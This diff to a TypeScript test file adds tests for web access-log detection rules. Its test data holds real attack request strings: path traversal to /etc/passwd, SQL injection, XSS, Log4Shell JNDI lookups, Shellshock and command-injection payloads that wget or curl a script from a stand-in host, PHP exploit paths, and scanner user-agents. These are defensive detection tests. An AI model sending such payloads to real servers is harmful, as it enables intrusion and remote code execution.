@@ -42,8 +42,15 @@ function clf(ms: number): string {
   return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
 }
 
-function access(ms: number, ip: string, request: string, status: number, user = '-'): string {
-  return `${ip} - ${user} [${clf(ms)}] "${request}" ${status} ${status === 304 ? 0 : 5120} "https://shop.example.org/" "Mozilla/5.0 (test)"`;
+function access(
+  ms: number,
+  ip: string,
+  request: string,
+  status: number,
+  user = '-',
+  agent = 'Mozilla/5.0 (test)',
+): string {
+  return `${ip} - ${user} [${clf(ms)}] "${request}" ${status} ${status === 304 ? 0 : 5120} "https://shop.example.org/" "${agent}"`;
 }
 
 const PAGES = [
@@ -135,6 +142,79 @@ describe('web access-log rules', () => {
       ['web-auth-failures-source', { 'source.ip': '203.0.113.201' }],
       ['web-auth-failures-user', { 'user.name': 'bob' }],
     ]);
+  });
+});
+
+const AT = DAY + 16 * 3_600_000;
+/** The rules one request opens, over the benign day. */
+const openedBy = (day: string[], request: string, status = 404, agent?: string) =>
+  opened(accessLogParser, [...day, access(AT, '203.0.113.77', request, status, '-', agent)]).map(
+    (d) => d.ruleId,
+  );
+
+describe('web attack rules', () => {
+  const day = benignDay();
+
+  it.each([
+    'GET /../../../../etc/passwd HTTP/1.1',
+    'GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1',
+    'GET /static/..%2f..%2f..%2fwindows/win.ini HTTP/1.1',
+    'GET /products?id=1%20UNION%20ALL%20SELECT%20NULL,NULL-- HTTP/1.1',
+    "GET /products?id=1'+or+1=1-- HTTP/1.1",
+    'GET /products?id=1%27%20AND%201%3D1 HTTP/1.1',
+    'GET /search?q=1)%20AND%20SLEEP(5)-- HTTP/1.1',
+    'GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1',
+    'GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1',
+    'GET /?x=%24%7Bjndi:ldap://198.51.100.9/a%7D HTTP/1.1',
+    'GET /shell?cd+/tmp;wget+http://198.51.100.9/m.sh HTTP/1.0',
+    'GET /cgi-bin/;cd${IFS}/tmp;curl${IFS}-O${IFS}http://x HTTP/1.1',
+    'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1',
+    'POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1',
+    'GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array HTTP/1.1',
+  ])('sees an exploit attempt in %s', (request) => {
+    expect(openedBy(day, request)).toEqual(['web-exploit-attempt']);
+  });
+
+  it.each([
+    'GET /blog/union-select-guide HTTP/1.1',
+    "GET /search?q=o'reilly+and+sons HTTP/1.1",
+    'GET /search?q=sleep+apnea HTTP/1.1',
+    'GET /products?sort=price&order=desc HTTP/1.1',
+    'GET /docs/shell-scripting HTTP/1.1',
+    'GET /static/app.min.js?v=2.1.0 HTTP/1.1',
+  ])('leaves an ordinary request alone: %s', (request) => {
+    expect(openedBy(day, request, 200)).toEqual([]);
+  });
+
+  it.each([
+    ['${jndi:ldap://198.51.100.9:1389/Basic/Command/whoami}', 'web-exploit-user-agent'],
+    ['() { :; }; /bin/bash -c "wget http://198.51.100.9/x"', 'web-exploit-user-agent'],
+    ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'web-scanner-user-agent'],
+    ['Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)', 'web-scanner-user-agent'],
+    [
+      'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
+      'web-scanner-user-agent',
+    ],
+  ])('reads the User-Agent %s', (agent, rule) => {
+    expect(openedBy(day, 'GET / HTTP/1.1', 200, agent)).toEqual([rule]);
+  });
+
+  it('sees a secret file answered 200, not one answered 404', () => {
+    expect(openedBy(day, 'GET /.env HTTP/1.1', 200)).toEqual(['web-sensitive-file-served']);
+    expect(openedBy(day, 'GET /.git/config HTTP/1.1', 200)).toEqual(['web-sensitive-file-served']);
+    expect(openedBy(day, 'GET /.env HTTP/1.1', 404)).toEqual([]);
+    expect(openedBy(day, 'GET /environment HTTP/1.1', 200)).toEqual([]);
+  });
+
+  it('sees a wordlist scan: 30 distinct missing paths in 5 min, not 29', () => {
+    const scan = (paths: number) =>
+      Array.from({ length: paths }, (_, i) =>
+        access(AT + i * 5_000, '203.0.113.78', `GET /wordlist-${i}.php HTTP/1.1`, 404),
+      );
+    expect(opened(accessLogParser, [...day, ...scan(30)]).map((d) => [d.ruleId, d.group])).toEqual([
+      ['web-content-scan-source', { 'source.ip': '203.0.113.78' }],
+    ]);
+    expect(opened(accessLogParser, [...day, ...scan(29)])).toEqual([]);
   });
 });
 
